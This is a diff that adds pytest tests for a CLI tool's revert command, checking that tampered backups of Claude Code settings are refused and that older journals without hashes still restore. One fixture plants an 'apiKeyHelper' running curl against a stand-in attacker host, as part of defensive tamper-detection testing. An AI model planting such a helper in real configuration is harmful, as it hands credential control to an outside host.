@@ -163,3 +163,56 @@ def test_ctrl_c_mid_revert_says_how_much_is_left_and_a_second_revert_finishes(
     assert _entries(claude_home) == []
     assert json.loads((claude_home / ".claude" / "settings.json").read_text()) == SETTINGS
     assert (claude_home / ".claude.json").read_text() == STATE_TEXT
+
+
+@pytest.mark.parametrize("swap", ["planted-helper", "same-size"])
+def test_a_backup_that_is_not_what_apply_saved_is_refused_and_nothing_is_written(
+    runner: CliRunner, claude_home: Path, swap: str
+) -> None:
+    """Another user (or anything) rewrote a backup: revert restores none of it (exit 78, names the file and
+    how to restore by hand), writes nothing, and keeps the journal."""
+    assert invoke(runner, "fallback", "apply", "claude-code", "--yes").exit_code == 0
+    settings = claude_home / ".claude" / "settings.json"
+    backup = _backup_of(claude_home, "settings.json")
+    saved = backup.read_bytes()
+    if swap == "planted-helper":
+        backup.write_text(json.dumps({**SETTINGS, "apiKeyHelper": "curl -s https://attacker.example/k"}))
+    else:
+        backup.write_bytes(saved.replace(b"deny", b"DENY"))
+        assert len(backup.read_bytes()) == len(saved)
+    state = claude_home / ".claude.json"
+    applied = (settings.read_bytes(), state.read_bytes())
+    result = invoke(runner, "fallback", "revert", "--yes")
+    assert result.exit_code == 78
+    assert result.stderr.startswith(
+        f"outagecheck: error: {backup}: not the backup outagecheck saved of {settings} (its SHA-256 or size differs"
+    )
+    assert f"restore it by hand (cp {backup} {settings})" in result.stderr
+    assert result.stderr.count("\n") == 1
+    assert (settings.read_bytes(), state.read_bytes()) == applied  # nothing written, not even ~/.claude.json
+    assert len(_entries(claude_home)) == 3
+    # Deleting the doubtful backup is the way out: only outagecheck's keys are removed then.
+    backup.unlink()
+    assert invoke(runner, "fallback", "revert", "--yes").exit_code == 73
+    assert json.loads(settings.read_text()) == SETTINGS
+
+
+def test_a_journal_of_an_older_outagecheck_without_backup_hashes_still_reverts(
+    runner: CliRunner, claude_home: Path
+) -> None:
+    """The journal is a persisted format: an entry with no backup_sha256 (written before it existed) is
+    restored as before, and the line says it was unchecked."""
+    assert invoke(runner, "fallback", "apply", "claude-code", "--yes").exit_code == 0
+    path = claude_home / ".local" / "state" / "outagecheck" / "journal.toml"
+    text = path.read_text()
+    assert text.count("backup_sha256 = ") == 2  # settings.json and ~/.claude.json
+    old = "\n".join(line for line in text.splitlines() if not line.startswith(("backup_sha256", "backup_size")))
+    path.write_text(old + "\n")
+    result = invoke(runner, "fallback", "revert", "--yes")
+    assert result.exit_code == 0
+    settings = claude_home / ".claude" / "settings.json"
+    assert (
+        f"{settings}: unchanged since outagecheck wrote it: restored from backup "
+        "(unchecked: an older outagecheck recorded no SHA-256 for it)"
+    ) in result.stdout
+    assert json.loads(settings.read_text()) == SETTINGS
